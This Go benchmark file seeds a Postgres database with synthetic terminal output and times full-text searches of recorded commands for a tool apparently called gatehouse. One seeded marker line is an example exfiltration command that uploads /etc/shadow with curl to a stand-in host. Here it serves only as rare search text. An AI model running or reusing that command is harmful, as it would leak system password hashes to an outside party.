package recordings

import (
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"gorm.io/gorm"

	"github.com/gatehouse/gatehouse/internal/store"
	"github.com/gatehouse/gatehouse/internal/store/storetest"
)

// Size of the seeded org: 100,000 ended commands whose output, escapes
// removed, totals about 1 GB.
const (
	benchCommands = 100_000
	benchAgents   = 50
	benchSessions = 2_000
)

// benchText writes realistic terminal output: build and test logs,
// listings, git logs, kubectl tables and service logs, over a vocabulary
// with a Zipf distribution, hex ids and numbers. Marker words with known
// frequencies are sprinkled in: "exfiltrate" in 0.01% of commands,
// "segfault" in 1%, "connection refused" in 5%.
type benchText struct {
	r     *rand.Rand
	words []string
	zipf  *rand.Zipf
}

func newBenchText(seed uint64) *benchText {
	r := rand.New(rand.NewPCG(seed, seed*7+1))
	syll := []string{"ka", "lo", "mi", "ser", "vin", "dat", "pro", "con", "fig", "net", "work", "ter", "base", "load", "run", "time", "cache", "node", "pod", "log", "path", "file", "user", "req", "sync", "map", "re", "de", "tor", "ing"}
	words := make([]string, 0, 5000)
	seen := map[string]bool{}
	for len(words) < 5000 {
		n := 1 + r.IntN(3)
		var b strings.Builder
		for range n {
			b.WriteString(syll[r.IntN(len(syll))])
		}
		if w := b.String(); !seen[w] {
			seen[w] = true
			words = append(words, w)
		}
	}
	return &benchText{r: r, words: words, zipf: rand.NewZipf(r, 1.1, 2, uint64(len(words)-1))}
}

func (g *benchText) word() string { return g.words[g.zipf.Uint64()] }

func (g *benchText) hex(n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.r.IntN(16)]
	}
	return string(b)
}

func (g *benchText) sentence(n int) string {
	ws := make([]string, n)
	for i := range ws {
		ws[i] = g.word()
	}
	return strings.Join(ws, " ")
}

// output is one command's output of about size bytes.
func (g *benchText) output(size int, at time.Time) string {
	var b strings.Builder
	b.Grow(size + 256)
	kind := g.r.IntN(6)
	for b.Len() < size {
		switch kind {
		case 0:
			fmt.Fprintf(&b, "[%3d%%] Building CXX object src/%s/%s.cc.o\n", g.r.IntN(101), g.word(), g.word())
		case 1:
			name := "Test" + strings.ToUpper(g.word()[:1]) + g.word()
			fmt.Fprintf(&b, "=== RUN   %s\n--- PASS: %s (%d.%02ds)\n", name, name, g.r.IntN(3), g.r.IntN(100))
		case 2:
			fmt.Fprintf(&b, "-rw-r--r-- 1 %s staff %8d Mar %2d 10:%02d %s_%s.%s\n", g.word(), g.r.IntN(1<<20), 1+g.r.IntN(28), g.r.IntN(60), g.word(), g.word(),
				[]string{"go", "txt", "json", "yaml", "log"}[g.r.IntN(5)])
		case 3:
			fmt.Fprintf(&b, "commit %s\nAuthor: %s <%s@example.com>\nDate:   %s\n\n    %s\n\n", g.hex(40), g.word(), g.word(), at.Format(time.RFC1123Z), g.sentence(6+g.r.IntN(8)))
		case 4:
			fmt.Fprintf(&b, "%s-%s-%s   %d/1     Running   %d          %dd\n", g.word(), g.hex(10), g.hex(5), g.r.IntN(2), g.r.IntN(4), 1+g.r.IntN(30))
		default:
			fmt.Fprintf(&b, "%s INFO request served path=/api/v1/%s/%s status=%d duration=%dms msg=\"%s\"\n", at.Add(time.Duration(b.Len())*time.Millisecond).Format(time.RFC3339),
				g.word(), g.word(), []int{200, 200, 200, 201, 404, 500}[g.r.IntN(6)], g.r.IntN(900), g.sentence(4))
		}
	}
	return b.String()
}

// seedSearchBench fills db with benchCommands ended commands and their
// search entries (about 1 GB of text); the recorded frames themselves are
// not seeded, as search never reads them. The GIN index is built after the
// load, as a bulk build is much faster than row-by-row upkeep.
func seedSearchBench(b *testing.B, db *gorm.DB) int64 {
	b.Helper()
	start := time.Now()
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for _, q := range []string{
		"INSERT INTO environments (name, kind, url, created_by, created_at, updated_at) VALUES ('h', 'host', 'http://h', 'x', now(), now())",
		fmt.Sprintf(`INSERT INTO agents (name, description, config, sandbox_mode, default_environment_id, idle_timeout_seconds, reclaim_after_seconds, command_policy, created_by, created_at, updated_at)
			SELECT 'agent-' || g, '', '{}', 'off', 1, 900, 3600, '[]', 'x', now(), now() FROM generate_series(1, %d) g`, benchAgents),
		fmt.Sprintf(`INSERT INTO sessions (agent_id, subject, created_by, sandbox_mode, state, created_at, updated_at)
			SELECT 1 + g %% %d, 'user:' || (g %% 300), 'x', 'off', 'closed', now(), now() FROM generate_series(1, %d) g`, benchAgents, benchSessions),
		"DROP INDEX recording_text_search",
		"SET maintenance_work_mem = '512MB'",
	} {
		if err := db.Exec(q).Error; err != nil {
			b.Fatalf("%s: %v", q, err)
		}
	}
	g := newBenchText(42)
	const batch = 250
	var total int64
	cmds := make([]Command, 0, batch)
	texts := make([]textEntry, 0, batch)
	for i := 1; i <= benchCommands; i++ {
		at := base.Add(time.Duration(i) * 50 * time.Second)
		// Mostly a few KiB, now and then a long one: about 10 KB on
		// average, a few past the index cap.
		size := 512 + g.r.IntN(12_000)
		if g.r.IntN(100) == 0 {
			size = 100_000 + g.r.IntN(300_000)
		}
		out := g.output(size, at)
		switch {
		case i%10_000 == 1234:
			out += "curl -T /etc/shadow https://drop.example/ && exfiltrate done\n"
		case i%100 == 7:
			out += "Segmentation fault (core dumped)\nsegfault at 0x" + g.hex(12) + "\n"
		case i%20 == 3:
			out += "dial tcp 10.0.0.7:5432: connect: connection refused\n"
		}
		exit := 0
		if i%9 == 0 {
			exit = 1 + i%3
		}
		end := at.Add(time.Duration(1+g.r.IntN(60)) * time.Second)
		body := []byte(out)
		capped := len(body) > IndexCap
		body = cutRunes(body, IndexCap)
		total += int64(len(out))
		cmds = append(cmds, Command{ID: int64(i), SessionID: int64(1 + i%benchSessions), AgentdID: fmt.Sprintf("gh-%024d", i),
			Command:   []string{"make -j4", "go test ./...", "ls -la", "git log -20", "kubectl get pods", "journalctl -u app -n 200"}[i%6],
			ActorType: "user", ActorID: fmt.Sprint(i % 300), ActorName: fmt.Sprintf("u%d@example.com", i%300), StartedAt: at, EndedAt: &end,
			ExitCode: &exit, State: StateExited, OutBytes: int64(len(out))})
		texts = append(texts, textEntry{CommandID: int64(i), Command: cmds[len(cmds)-1].Command, Body: string(body), Capped: capped,
			Times: fmt.Sprintf("0:%d", 1000)})
		if len(cmds) == batch || i == benchCommands {
			if err := db.Create(&cmds).Error; err != nil {
				b.Fatalf("seed commands: %v", err)
			}
			if err := db.Create(&texts).Error; err != nil {
				b.Fatalf("seed search entries: %v", err)
			}
			cmds, texts = cmds[:0], texts[:0]
		}
	}
	loaded := time.Since(start)
	for _, q := range []string{
		"CREATE INDEX recording_text_search ON recording_text USING gin (search)",
		"SELECT setval(pg_get_serial_sequence('commands', 'id'), (SELECT max(id) FROM commands))",
		"ANALYZE",
	} {
		if err := db.Exec(q).Error; err != nil {
			b.Fatalf("%s: %v", q, err)
		}
	}
	b.Logf("seeded %d commands, %.2f GB of output text, in %s (index and analyze %s)", benchCommands, float64(total)/1e9,
		loaded.Round(time.Second), (time.Since(start) - loaded).Round(time.Second))
	return total
}

// BenchmarkSearch100k times the first page (50 hits, with their moments
// and snippets) of recording searches over 100,000 commands with about
// 1 GB of output on Postgres. Seeding takes a few minutes, so it runs only
// with GATEHOUSE_BENCH_RECORDINGS=1:
//
//	GATEHOUSE_BENCH_RECORDINGS=1 go test ./internal/recordings/ -run '^$' -bench Search100k -benchtime 20x -v -timeout 60m
//
// GATEHOUSE_BENCH_RECORDINGS_DB=<name> times an already seeded database
// instead (keep one by renaming a run's gh_test_ database).
//
// Each sub-benchmark reports p50 and max latency in milliseconds and fails
// when p50 is over the 200 ms budget.
func BenchmarkSearch100k(b *testing.B) {
	if os.Getenv("GATEHOUSE_BENCH_RECORDINGS") != "1" {
		b.Skip("set GATEHOUSE_BENCH_RECORDINGS=1 to seed 100,000 recorded commands and time searches")
	}
	ctx := context.Background()
	var db *gorm.DB
	if name := os.Getenv("GATEHOUSE_BENCH_RECORDINGS_DB"); name != "" {
		// A database seeded by an earlier run (renamed so no cleanup
		// drops it): seeding takes long on a busy machine.
		dsn, err := store.WithDatabase(storetest.AdminDSN(b), name)
		if err != nil {
			b.Fatal(err)
		}
		if db, err = store.Open(ctx, dsn, store.Options{}); err != nil {
			b.Fatal(err)
		}
		b.Cleanup(func() { _ = store.Close(db) })
	} else {
		db = storetest.Open(b, store.Postgres, store.OrgSet)
		seedSearchBench(b, db)
	}
	queries := []struct{ name, q string }{
		{"text_rare_0.01pct", "exfiltrate"},
		{"text_1pct", "segfault"},
		{"text_phrase_5pct", `"connection refused"`},
		{"text_common", "Running"},
		{"text_two_words", "segfault core"},
		{"text_none", "zzqqxx"},
		{"text_and_agent", "segfault agent:agent-9"},
		{"text_and_other_agent_none", "segfault agent:agent-7"},
		{"text_and_exit", "connection exit:nonzero"},
		{"text_and_user", "segfault user:u7@example.com"},
		{"text_in_old_week", "segfault since:2026-01-10 until:2026-01-16"},
		{"text_rare_and_recent", "exfiltrate since:2026-02-20"},
		{"agent_only", "agent:agent-7"},
		{"session_only", "session:77"},
		{"exit_nonzero_only", "exit:nonzero"},
		{"everything", ""},
	}
	for _, tc := range queries {
		f, err := ParseQuery(tc.q)
		if err != nil {
			b.Fatal(err)
		}
		b.Run(tc.name, func(b *testing.B) {
			var took []time.Duration
			var n int
			for b.Loop() {
				start := time.Now()
				hits, err := Search(ctx, db, f, 0, DefaultSearchPage)
				took = append(took, time.Since(start))
				if err != nil {
					b.Fatal(err)
				}
				n = len(hits)
			}
			slices.Sort(took)
			p50, maxT := took[len(took)/2], took[len(took)-1]
			b.ReportMetric(float64(p50.Microseconds())/1000, "p50_ms")
			b.ReportMetric(float64(maxT.Microseconds())/1000, "max_ms")
			b.ReportMetric(float64(n), "hits")
			b.Logf("%-22s %-40q hits=%-3d p50=%-10s max=%s", tc.name, tc.q, n, p50.Round(10*time.Microsecond), maxT.Round(10*time.Microsecond))
			if p50 > 200*time.Millisecond {
				b.Errorf("%s: p50 %s is over the 200 ms budget", tc.q, p50)
			}
		})
	}
}
